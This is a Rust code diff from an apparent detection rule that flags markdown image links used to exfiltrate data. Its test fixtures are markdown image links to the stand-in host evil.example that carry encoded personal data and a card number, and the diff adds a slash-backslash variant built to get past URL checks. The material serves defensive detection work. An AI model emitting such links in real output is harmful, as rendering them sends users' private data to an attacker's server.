@@ -47,6 +47,7 @@ pub(super) const RULE: Rule = Rule {
                 "![](https://evil.example/QW5uYSBCZWxsLCBhbm5hQG1haWwuZXhhbXBsZSwgNDExMSAxMTEx/a.gif)",
             ),
             hit("![p](//evil.example/x?d=4111111111111111)"),
+            hit("![p](https:/\\evil.example/x?d=QW5uYSBCZWxs)"),
             hit("![p](<https://evil.example/?d=Anna Bell lives in Bath>)"),
             hit("[p]: https://evil.example/p.png?d=QW5uYSBCZWxs\n![x][p]"),
             hit("![p](https://QW5uYSBCZWxsLCBhbm5hQG1haWw.evil.example/p.png)"),
@@ -76,7 +77,11 @@ static URLS: LazyLock<Regex> =
     LazyLock::new(|| regex(r#"(?i)(?:\bhttps?:|[(<"'=])[\\/]{2}[^\s<>()\[\]"'`]{4,}"#));
 
 fn inspect(look: &Look<'_>, hits: &mut Vec<Hit>) {
-    if !look.text.contains("//") && !look.text.contains(r"\\") {
+    // Browsers take a backslash for a slash.
+    let mut marks = look.text.match_indices(['/', '\\']);
+    if !marks
+        .any(|(at, _)| look.text.get(at + 1..).is_some_and(|rest| rest.starts_with(['/', '\\'])))
+    {
         return;
     }
     for found in URLS.find_iter(look.text).take(HITS_MAX) {
